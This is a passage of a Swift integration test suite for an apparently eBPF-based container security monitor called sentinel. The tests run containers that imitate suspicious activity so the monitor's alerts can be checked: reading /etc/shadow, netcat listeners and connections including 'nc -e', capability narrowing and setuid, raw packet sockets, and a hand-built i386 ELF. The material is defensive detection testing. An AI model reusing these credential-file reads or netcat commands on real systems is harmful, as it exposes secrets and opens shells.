        let container = try TestContainer.run("sentinel-live-capset", image: Self.debian, Self.python("""
            import os
            open("/etc/hostname").close()
            header = (ctypes.c_uint32 * 2)(0x20080522, 0)
            keep = 1 << 6 | 1 << 7 | 1 << 13  # CAP_SETGID, CAP_SETUID, CAP_NET_RAW
            data = (ctypes.c_uint32 * 6)(keep, keep, 0, 0, 0, 0)
            assert libc.capset(header, data) == 0, ctypes.get_errno()
            open("/etc/hosts").close()
            os.setgid(100); os.setuid(1000)
            open("/etc/host.conf").close()
            """))
        defer { container.remove() }
        _ = waitUntil(seconds: 3) { sentinel.alerts.filter { $0["rule"] as? String == "Credentials around a change" }.count >= 5 }
        let events = sentinel.alerts.filter { $0["rule"] as? String == "Credentials around a change" }
            .compactMap { $0["output_fields"] as? [String: Any] }
            .filter { $0["container.id"] as? String == container.id && $0["proc.name"] as? String == "python3" }  // not runc's, setting up
        func event(_ type: String, _ name: String? = nil) throws -> [String: Any] {
            try #require(events.first { $0["evt.type"] as? String == type && (name == nil || $0["fd.name"] as? String == name) },
                         "no \(type) \(name ?? "") in \(events)")
        }
        let before = try event("openat", "/etc/hostname"), capset = try event("capset"), narrowed = try event("openat", "/etc/hosts")
        let setuid = try event("setuid"), after = try event("openat", "/etc/host.conf")
        #expect((before["thread.cap_effective"] as? String)?.contains("CAP_CHOWN") == true && before["user.uid"] as? Int == 0, "\(before)")
        #expect(capset["thread.cap_effective"] as? String == before["thread.cap_effective"] as? String, "made with the old ones: \(capset)")
        let kept = "CAP_SETGID CAP_SETUID CAP_NET_RAW"
        #expect(narrowed["thread.cap_effective"] as? String == kept && narrowed["thread.cap_permitted"] as? String == kept, "\(narrowed)")
        #expect(setuid["user.uid"] as? Int == 0, "made by root: \(setuid)")
        #expect(after["user.uid"] as? Int == 1000 && after["group.gid"] as? Int == 100, "\(after)")
        // Every uid non-zero: the kernel cleared the capabilities.
        #expect((after["thread.cap_effective"] as? String ?? "").isEmpty, "\(after)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// A rule that names proc.env has execs carry their environment, as the process got it.
    @Test func theEnvironmentComesWhenARuleReadsIt() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/environment.json"], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-environment", "SENTINEL_PROBE=secret-42 /bin/true; /bin/true; sleep 1")
        defer { container.remove() }
        let fields = try #require(sentinel.alert("Probe in the environment", container: container.id, within: 3), "\(sentinel.alerts)")
        let environment = (fields["proc.env"] as? String ?? "").split(separator: " ")
        #expect(environment.contains("SENTINEL_PROBE=secret-42") && environment.contains { $0.hasPrefix("PATH=") }, "\(fields)")
        #expect(fields["proc.env[SENTINEL_PROBE]"] as? String == "secret-42", "\(fields)")
        // Only the one exec had it.
        #expect(sentinel.alerts.filter { $0["rule"] as? String == "Probe in the environment" }.count == 1, "\(sentinel.alerts)")
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// A container on the host's network has no veth of its own, so packet capture cannot see
    /// its traffic; the kernel's socket events still do, with its container and process: its
    /// listen, connect and accept on the host's loopback arrive with both ends.
    @Test func aContainerOnTheHostNetworkIsSeenByItsSockets() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/sockets.json"], command: ["-o", "json"])
        let program = """
            import socket
            server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
            client = socket.create_connection(server.getsockname()); peer, _ = server.accept()
            client.send(b"hi"); peer.recv(2)
            """
        let container = try TestContainer.run("sentinel-live-hostnet", image: Self.debian, network: "host", "python3 -c '\(program)'; sleep 1")
        defer { container.remove() }
        _ = sentinel.alert("Socket event", container: container.id, within: 3)
        _ = waitUntil(seconds: 2) { sentinel.alerts.count >= 3 }
        let events = sentinel.alerts.compactMap { $0["output_fields"] as? [String: Any] }.filter { $0["container.id"] as? String == container.id }
        for type in ["listen", "connect", "accept"] {
            let fields = try #require(events.first { $0["evt.type"] as? String == type }, "no \(type) in \(events)")
            #expect(fields["container.name"] as? String == "sentinel-live-hostnet" && fields["proc.name"] as? String == "python3", "\(fields)")
            #expect((fields["fd.name"] as? String)?.hasSuffix("127.0.0.1:\(fields["fd.lport"] ?? "")") == true || type == "connect", "\(fields)")
            #expect((fields["fd.name"] as? String)?.contains("127.0.0.1:") == true, "\(fields)")
        }
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    @Test func theEntrypointItselfIsNotAShellAlert() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel()
        let container = try TestContainer.run("sentinel-live-entrypoint", "/bin/cat /etc/shadow >/dev/null; sleep 1")
        defer { container.remove() }
        #expect(sentinel.alert("Sensitive file read in container", container: container.id) != nil)
        #expect(sentinel.alerts.allSatisfy { $0["rule"] as? String != "Shell spawned in container" }, "the entrypoint shell is the container's own")
        _ = sentinel.stop()
    }

    @Test func theHostIsWatchedOnlyWhenAsked() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let rule = "Shadow read anywhere"
        let fixture = "Tests/sentinelTests/Fixtures/live/shadow-anywhere.json"
        for includeHost in [false, true] {
            let sentinel = try LiveSentinel(["--rules", fixture] + (includeHost ? ["--include-host"] : []))
            try command(["/bin/cat", "/etc/shadow"])
            let hostAlert = sentinel.alert(rule, container: "host")
            #expect((hostAlert != nil) == includeHost, "include-host \(includeHost): \(sentinel.alerts.map { $0["output"] ?? "" })")
            // The same rule still sees containers, so the silence above is the filter's doing.
            let container = try TestContainer.run("sentinel-live-anywhere", "/bin/cat /etc/shadow >/dev/null")
            #expect(sentinel.alert(rule, container: container.id) != nil)
            container.remove()
            #expect(sentinel.stop() == 0)
        }
    }

    @Test func withoutPrivilegesItSaysWhatIsMissing() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let result = try sentinel(["--rules", "rules/"], as: ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"])
        #expect(result.status == 2)
        #expect(result.stderr.contains("loading eBPF probes needs root, or the capabilities CAP_BPF and CAP_PERFMON"), "\(result.stderr)")
    }

    @Test func withoutDockerContainerIdsStillWork() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--docker-socket", "/nonexistent/docker.sock"])
        let container = try TestContainer.run("sentinel-live-nodocker", "/bin/cat /etc/shadow >/dev/null")
        container.remove()
        let fields = try #require(sentinel.alert("Sensitive file read in container", container: container.id))
        #expect(fields["container.name"] as? String != container.name, "no name without Docker")
        #expect(sentinel.stderr.contains("cannot reach Docker at /nonexistent/docker.sock"))
        #expect(sentinel.stop() == 0)
    }

    @Test func aRecordingReplaysToTheSameAlerts() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let recording = NSTemporaryDirectory() + "sentinel-recording-\(UUID().uuidString).jsonl"
        let live = try LiveSentinel()
        let recorder = try LiveSentinel(command: ["record", "--out", recording])
        let container = try TestContainer.run("sentinel-live-recorded",
            "/bin/cat /etc/shadow >/dev/null; /bin/nc -l -p 4444 >/dev/null & sleep 0.3; echo hi | /bin/nc 127.0.0.1 4444; wait; /usr/sbin/nginx /bin/id; sleep 1")
        container.remove()
        #expect(live.alert("User reconnaissance in container", container: container.id) != nil)
        #expect(recorder.stop() == 0, "\(recorder.stderr)")
        #expect(live.stop() == 0)

        let replay = try sentinel(["--rules", "rules/", "-o", "json", "--append-output", LiveSentinel.appended, "--replay", recording])
        #expect(replay.status == 0, "\(replay.stderr)")
        func judged(_ alerts: [[String: Any]]) -> Set<String> {
            Set(alerts.compactMap { alert in
                let fields = alert["output_fields"] as? [String: Any] ?? [:]
                guard fields["container.id"] as? String == container.id else { return nil }
                return "\(alert["rule"] ?? "") \(fields["proc.name"] ?? "") \(fields["proc.pname"] ?? "") \(fields["proc.apid[1]"] ?? "")"
            })
        }
        let replayed = replay.stdoutLines.compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(judged(replayed) == judged(live.alerts))
        #expect(judged(replayed).count >= 5)

        // The client's side of the loopback connection, closed: "hi\n" out, the kernel's counters.
        let events = try String(contentsOfFile: recording, encoding: .utf8).split(separator: "\n")
            .compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        let clientClose = try #require(events.first { $0["evt.type"] as? String == "close" && $0["fd.direction"] as? String == "outbound" && $0["fd.sport"] as? Int == 4444 })
        #expect(clientClose["fd.bytes_out"] as? Int == 3)
        #expect(clientClose["fd.cip"] as? String == "127.0.0.1")
        #expect((clientClose["fd.cport"] as? Int ?? 0) > 0)
        #expect((clientClose["fd.segs_out"] as? Int ?? 0) >= 2, "SYN and data at least")
    }

    @Test func optInEventsComeOnlyAsRulesNameThem() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/opt-in-events.json"])
        #expect(sentinel.stderr.contains("syscalls, segments"), "\(sentinel.stderr)")
        let container = try TestContainer.run("sentinel-live-opt-in",
            "/bin/sync; /bin/nc -l -p 4445 >/dev/null & sleep 0.3; echo hello | /bin/nc 127.0.0.1 4445; wait")
        container.remove()
        let sync = try #require(sentinel.alert("sync called in container", container: container.id), "\(sentinel.alerts)")
        #expect(sync["proc.name"] as? String == "sync")
        #expect(sentinel.alert("Segment on port 4445", container: container.id) != nil)
        #expect(sentinel.stop() == 0)

        // The connection as both of its sockets saw it: each segment leaves one and reaches the other.
        let segments = sentinel.alerts.filter { $0["rule"] as? String == "Segment on port 4445" }.compactMap { alert -> String? in
            let fields = alert["output_fields"] as? [String: Any] ?? [:]
            guard fields["container.id"] as? String == container.id else { return nil }
            let toServer = (fields["fd.name"] as? String ?? "").hasSuffix(":4445")
            return "\(toServer ? "client->server" : "server->client") \(fields["tcp.flags"] ?? "") \(fields["tcp.len"] ?? "") \(fields["fd.direction"] ?? "")"
        }
        for expected in ["client->server SYN 0", "server->client SYN,ACK 0", "client->server PSH,ACK 6"] {
            #expect(segments.contains(expected + " outbound") && segments.contains(expected + " inbound"), "\(expected): \(segments)")
        }
        let counts = Self.recordCounts(sentinel.stderr)
        let segmentCounts = try #require(counts["segment"], "\(sentinel.stderr)")
        #expect(segmentCounts.produced == segmentCounts.received && segmentCounts.produced >= 16, "\(segmentCounts)")
        // Calls no rule names stay in the kernel: of the container's hundreds, only sync is sent.
        let systemCalls = try #require(counts["syscalls"], "\(sentinel.stderr)")
        #expect(systemCalls.produced >= 1 && systemCalls.produced < 20, "\(systemCalls)")
    }

    /// A 32-bit program's calls come through the 32-bit entry with i386's numbers: its getpid
    /// (i386's 20) reaches the rules as i386:getpid, 532, not as x86_64's 20 (writev), and its
    /// ptrace-shaped numbers cannot pose as another call. The program is a hundred bytes of i386
    /// machine code in an ELF32 file made here: getpid, then exit, by `int 0x80`.
    @Test func aThirtyTwoBitProgramsCallsAreI386s() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let program = try temporaryFile("legacy32", "")
        try Data(Self.i386Program(calls: [20])).write(to: URL(fileURLWithPath: program))
        chmod(program, 0o755)
        let rules = try temporaryFile("i386.json", """
            {"rules": [{"rule": "i386 getpid", "condition": "evt.type = syscall and syscall.nr = 532 and container.id != host",
                        "output": "%syscall.name %syscall.nr %proc.name id=%container.id", "priority": "NOTICE"},
                       {"rule": "x86_64 writev", "condition": "evt.type = syscall and syscall.nr = 20 and proc.name = legacy32",
                        "output": "%syscall.name id=%container.id", "priority": "NOTICE"}]}
            """)
        let sentinel = try LiveSentinel(["--rules", rules], command: ["-o", "json"])
        let container = try TestContainer.run("sentinel-live-i386", options: ["-v", "\(program):/legacy32:ro"], "/legacy32; sleep 1")
        defer { container.remove() }
        let getpid = try #require(sentinel.alert("i386 getpid", container: container.id, within: 3), "\(sentinel.alerts)")
        #expect(getpid["syscall.name"] as? String == "i386:getpid")
        #expect(getpid["proc.name"] as? String == "legacy32")
        #expect(sentinel.alert("x86_64 writev", container: container.id, within: 0.5) == nil)
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
    }

    /// An ELF32 i386 program that makes each call of `calls` (numbers, no arguments) by `int 0x80`,
    /// then exits 0: one loadable segment holding the headers and the code.
    static func i386Program(calls: [UInt8]) -> [UInt8] {
        func le16(_ value: Int) -> [UInt8] { [UInt8(value & 0xFF), UInt8(value >> 8 & 0xFF)] }
        func le32(_ value: Int) -> [UInt8] { le16(value & 0xFFFF) + le16(value >> 16) }
        var code: [UInt8] = []
        for call in calls { code += [0xB8, call, 0, 0, 0, 0xCD, 0x80] }          // mov eax, call; int 0x80
        code += [0xB8, 1, 0, 0, 0, 0x31, 0xDB, 0xCD, 0x80]                         // mov eax, 1 (exit); xor ebx, ebx; int 0x80
        let base = 0x0804_8000, headers = 52 + 32, size = headers + code.count
        let identity: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 1, 1, 1] + Array(repeating: 0, count: 9) // ELF, 32-bit, little-endian
        let elfHeader = identity + le16(2) + le16(3) + le32(1) + le32(base + headers) + le32(52) + le32(0) + le32(0)
            + le16(52) + le16(32) + le16(1) + le16(0) + le16(0) + le16(0)             // executable, i386, entry, one program header
        let programHeader = le32(1) + le32(0) + le32(base) + le32(base) + le32(size) + le32(size) + le32(5) + le32(0x1000) // PT_LOAD, r-x
        return elfHeader + programHeader + code
    }

    /// The stock rules on socket, fcntl and dup ask for a few values (a packet socket, a dup onto
    /// a standard stream): the kernel sends only those calls, so that a server's thousands of
    /// others cost no record. A packet socket asked for with bits set above the int the kernel
    /// reads is still one, and still caught.
    @Test func callsTheRulesNarrowAreSentOnlyWithTheValuesAsked() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel()
        let container = try TestContainer.run("sentinel-live-narrowed", image: Self.debian, Self.python("""
            import socket, fcntl, os
            for _ in range(300):
                with socket.socket() as s:
                    fcntl.fcntl(s, fcntl.F_GETFL); os.dup2(s.fileno(), 50); os.close(50)
            fd = libc.syscall(41, ctypes.c_long((1 << 32) | 17), 3, 0x300)
            print("packet socket", fd, flush=True)
            """))
        defer { container.remove() }
        let alert = sentinel.alert("Packet socket opened in container", container: container.id, within: 3)
        let said = try command(["docker", "logs", container.name]).stdout
        let fields = try #require(alert, "\(sentinel.alerts.map { $0["output"] ?? "" }) \(said)")
        #expect((fields["evt.arg.type"] as? String)?.contains("SOCK_RAW") == true, "\(fields)")
        _ = waitUntil(seconds: 3) { Self.recordCounts(sentinel.stderr)["call"] != nil }
        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
        // 300 sockets, fcntls and dup2s made no record: what is left is Python's start.
        let calls = try #require(Self.recordCounts(sentinel.stderr)["call"], "\(sentinel.stderr)")
        #expect(calls.produced < 100, "\(calls)")
    }

    /// libbpf reads the ring for as long as records keep coming; a container that calls faster
    /// than sentinel reads must still let it stop when asked.
    @Test func aFloodOfSystemCallsDoesNotKeepSentinelFromStopping() throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/every-read.json"])
        let name = "sentinel-live-flood"
        try command(["docker", "rm", "-f", name])
        let started = try command(["docker", "run", "-d", "--network", "none", "--name", name, LiveEnvironment.image,
                                   "dd", "if=/dev/zero", "of=/dev/null", "bs=1"])
        defer { _ = try? command(["docker", "rm", "-f", name]) }
        try #require(started.status == 0, "docker run failed for \(name)")
        let flooding = waitUntil(seconds: 20) { (Self.recordCounts(sentinel.stderr)["syscalls"]?.produced ?? 0) > 1_000_000 }
        try #require(flooding, "the container's reads did not reach a million: \(sentinel.stderr.suffix(2000))")

        // Once stopped it reads what the ring holds (a debug build takes seconds); before, it
        // read on for as long as the container called.
        kill(sentinel.process.processIdentifier, SIGINT)
        let stopped = waitUntil(seconds: 30) { !sentinel.process.isRunning }
        #expect(stopped, "sentinel still ran 30 s after SIGINT, with the container still reading: \(sentinel.stderr.suffix(600))")
    }

    /// The record counts of the last statistics line: kind → (produced, received, dropped).
    static func recordCounts(_ stderr: String) -> [String: (produced: Int, received: Int, dropped: Int)] {
        let marker = "records produced/received/dropped: "
        guard let line = stderr.split(separator: "\n").last(where: { $0.contains(marker) }),
              let start = line.range(of: marker)?.upperBound else { return [:] }
        let list = line[start...].split(separator: ";")[0]
        var counts: [String: (Int, Int, Int)] = [:]
        for part in list.split(separator: ",") {
            let words = part.split(separator: " ")
            guard words.count == 2 else { continue }
            let numbers = words[1].split(separator: "/").compactMap { Int($0) }
            if numbers.count == 3 { counts[String(words[0])] = (numbers[0], numbers[1], numbers[2]) }
        }
        return counts
    }

    /// Connections, then 2,000 execs from four loops at once: more than a one-page ring buffer
    /// holds between two reads even when the reader is quick (one loop alone it can keep up with).
    static let storm = """
        /bin/nc -ll -p 5555 -e /bin/true & sleep 0.3
        i=0; while [ $i -lt 300 ]; do /bin/nc 127.0.0.1 5555 </dev/null; i=$((i+1)); done
        loops=""; for loop in 1 2 3 4; do (i=0; while [ $i -lt 500 ]; do /bin/true; i=$((i+1)); done) & loops="$loops $!"; done; wait $loops
        i=0; while [ $i -lt 300 ]; do : > /tmp/f$i; /bin/rm /tmp/f$i; i=$((i+1)); done
        """

    @Test(arguments: [8192, 4])
    func stormsAreCountedHonestly(ringBufferKiB: Int) throws {
        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
        let sentinel = try LiveSentinel(["--ring-buffer-kib", String(ringBufferKiB)])
        let container = try TestContainer.run("sentinel-live-storm", Self.storm)
        container.remove()
        let status = sentinel.stop()
        let counts = Self.recordCounts(sentinel.stderr)
        let exec = try #require(counts["exec"], "\(sentinel.stderr)")
        let connect = try #require(counts["connect"], "\(sentinel.stderr)")
        #expect(exec.produced >= 2_900, "2000 + 300 + 300 + 300 execs at least")
        #expect(connect.produced >= 300)
        let call = try #require(counts["call"], "the stock rules on removals capture unlinkat: \(sentinel.stderr)")
        #expect(call.produced >= 300, "300 removals at least")
        for (kind, count) in counts {
            #expect(count.produced == count.received + count.dropped, "\(kind): \(count)")
        }
        let dropped = counts.values.reduce(0) { $0 + $1.dropped }
        let dropAlerts = sentinel.alerts.filter { $0["rule"] as? String == "Events dropped" && $0["source"] as? String == "sentinel" }
        if ringBufferKiB == 4 {
            #expect(dropped > 0, "a one-page ring buffer cannot hold an exec storm")
        }
        #expect(dropAlerts.isEmpty == (dropped == 0), "every drop is reported through the outputs")
        #expect(status == (dropped == 0 ? 0 : 1), "lost events make the exit status 1")
    }
}
